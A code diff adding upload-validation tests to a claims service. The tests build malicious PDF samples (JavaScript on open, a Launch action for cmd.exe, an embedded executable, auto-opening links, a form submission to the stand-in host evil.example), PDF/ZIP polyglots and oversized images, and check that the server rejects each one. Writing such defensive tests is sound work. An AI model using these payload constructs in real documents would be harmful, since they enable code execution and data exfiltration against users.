@@ -5,6 +5,7 @@ import { existsSync, readdirSync } from 'node:fs';
 import { join } from 'node:path';
 import { deflateSync, crc32 } from 'node:zlib';
 import { eq } from 'drizzle-orm';
+import { PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { claimDocuments } from '../../src/server/db/schema/claims.ts';
 import { createClaim, EXE, HTML, makeJpeg, makePdf, makePng, newCaller, PHP, uploadRequest, type Caller } from './claims-helpers.ts';
@@ -91,5 +92,99 @@ describe('hostile documents', () => {
     expect(res.json().data.name).toBe(shown);
     const [row] = await t.app.db.select().from(claimDocuments).where(eq(claimDocuments.claimId, claim.id));
     expect(row!.blobKey).toMatch(new RegExp(`^claims/${claim.id}/[0-9a-f-]{36}$`));
+  });
+});
+
+/** A hand-written PDF whose catalog carries `catalogExtra` and that has `objects` beside it. */
+function craftedPdf(catalogExtra: string, objects: string[] = []): Buffer {
+  const body = [
+    `1 0 obj << /Type /Catalog /Pages 2 0 R ${catalogExtra} >> endobj`,
+    '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
+    '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj',
+    ...objects,
+  ];
+  return Buffer.from(`%PDF-1.7\n${body.join('\n')}\ntrailer << /Root 1 0 R /Size ${body.length + 1} >>\n%%EOF\n`, 'latin1');
+}
+
+/** A real PDF from a generator (pdf-lib: xref stream, compressed object streams), optionally with JavaScript on open. */
+async function generatedPdf(withScript = false): Promise<Buffer> {
+  const doc = await PDFDocument.create();
+  const page = doc.addPage([300, 200]);
+  page.drawText('Boarding pass BA456 LHR-JFK', { x: 20, y: 100, size: 12, font: await doc.embedFont(StandardFonts.Helvetica) });
+  if (withScript) {
+    const action = doc.context.obj({ S: PDFName.of('JavaScript'), JS: PDFString.of('app.alert("hi")') });
+    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
+  }
+  return Buffer.from(await doc.save({ useObjectStreams: true }));
+}
+
+const unsafePdfs: [string, () => Buffer | Promise<Buffer>][] = [
+  ['JavaScript run on open (/OpenAction /S /JavaScript)', () => craftedPdf('/OpenAction << /S /JavaScript /JS (app.alert(1); this.submitForm("https://evil.example/x")) >>')],
+  ['JavaScript with an escaped name (/Java#53cript)', () => craftedPdf('/OpenAction << /S /Java#53cript /JS (app.alert(1)) >>')],
+  ['a document-level JavaScript name tree', () => craftedPdf('/Names << /JavaScript 4 0 R >>', ['4 0 obj << /Names [(x) << /S /JavaScript /JS (app.alert(1)) >>] >> endobj'])],
+  ['an additional action on the page (/AA)', () => craftedPdf('', ['4 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 10 10] /AA << /E << /S /URI /URI (https://evil.example) >> >> >> endobj'])],
+  ['a Launch action', () => craftedPdf('/OpenAction 4 0 R', ['4 0 obj << /S /Launch /F (cmd.exe) >> endobj'])],
+  ['an OpenAction that opens a link (an action by reference)', () => craftedPdf('/OpenAction 4 0 R', ['4 0 obj << /S /URI /URI (https://evil.example) >> endobj'])],
+  ['an embedded file', () => craftedPdf('/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>', ['4 0 obj << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >> endobj', '5 0 obj << /Type /EmbeddedFile /Length 2 >> stream\nMZ\nendstream endobj'])],
+  ['JavaScript inside a compressed object stream (generated)', () => generatedPdf(true)],
+];
+
+const brokenPdfs: [string, Buffer][] = [
+  ['a ZIP between a PDF header and %%EOF (polyglot)', Buffer.concat([Buffer.from('%PDF-1.4\n'), ZIP, Buffer.from('\n%%EOF\n')])],
+  ['a valid PDF that also holds a ZIP directory (polyglot)', craftedPdf('', [`% ${ZIP.toString('latin1')}`])],
+  ['a ten-byte "%PDF-%%EOF"', Buffer.from('%PDF-%%EOF')],
+];
+
+describe('PDF content (F11)', () => {
+  it.each(unsafePdfs)('refuses a PDF with %s as 422 document-unsafe, storing nothing', async (_label, make) => {
+    const claim = await createClaim(t.app, ada);
+    const res = await t.app.inject(uploadRequest(claim.id, ada, { data: await make(), filename: 'pass.pdf' }));
+    expect(res.statusCode, res.body).toBe(422);
+    expect(res.json()).toMatchObject({ code: 'document-unsafe', detail: expect.any(String) });
+    expect(await t.app.db.select().from(claimDocuments).where(eq(claimDocuments.claimId, claim.id))).toEqual([]);
+  });
+
+  it.each(brokenPdfs)('refuses %s as 415', async (_label, data) => {
+    const claim = await createClaim(t.app, ada);
+    const res = await t.app.inject(uploadRequest(claim.id, ada, { data, filename: 'pass.pdf' }));
+    expect(res.statusCode, res.body).toBe(415);
+    expect(res.json().code).toBe('unsupported-file-type');
+  });
+
+  it('accepts real PDFs: a generator\'s (compressed objects), one with links and a plain destination on open', async () => {
+    const claim = await createClaim(t.app, ada);
+    const files = [
+      await generatedPdf(),
+      craftedPdf('/OpenAction [3 0 R /Fit]', ['4 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://airline.example/booking) >> >> endobj']),
+    ];
+    for (const data of files) {
+      const res = await t.app.inject(uploadRequest(claim.id, ada, { data, filename: 'pass.pdf' }));
+      expect(res.statusCode, res.body).toBe(201);
+    }
+  });
+});
+
+/** A JPEG whose frame header (SOF0) declares width×height; the scan data is filler. */
+function jpegDeclaring(width: number, height: number): Buffer {
+  const sof = Buffer.from([0xff, 0xc0, 0x00, 0x11, 0x08, height >> 8, height & 0xff, width >> 8, width & 0xff, 0x03, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1]);
+  const jpeg = makeJpeg();
+  return Buffer.concat([jpeg.subarray(0, 20), sof, jpeg.subarray(20)]);
+}
+
+describe('pixel budget (I6)', () => {
+  it.each([
+    ['a PNG declaring 10000×8000 pixels', Buffer.concat([makePng(1, 1).subarray(0, 8), chunk('IHDR', (() => { const h = Buffer.alloc(13); h.writeUInt32BE(10_000, 0); h.writeUInt32BE(8_000, 4); h[8] = 8; h[9] = 6; return h; })()), chunk('IDAT', deflateSync(Buffer.alloc(64))), chunk('IEND', Buffer.alloc(0))]), 'image/png'],
+    ['a JPEG declaring 12000×9000 pixels', jpegDeclaring(12_000, 9_000), 'image/jpeg'],
+  ])('refuses %s with 422 image-too-large', async (_label, data, contentType) => {
+    const claim = await createClaim(t.app, ada);
+    const res = await t.app.inject(uploadRequest(claim.id, ada, { data, filename: 'scan', contentType }));
+    expect(res.statusCode, res.body).toBe(422);
+    expect(res.json().code).toBe('image-too-large');
+  });
+
+  it('accepts a JPEG of a phone photo\'s size (4000×3000)', async () => {
+    const claim = await createClaim(t.app, ada);
+    const res = await t.app.inject(uploadRequest(claim.id, ada, { data: jpegDeclaring(4000, 3000), filename: 'photo.jpg', contentType: 'image/jpeg' }));
+    expect(res.statusCode, res.body).toBe(201);
   });
 });
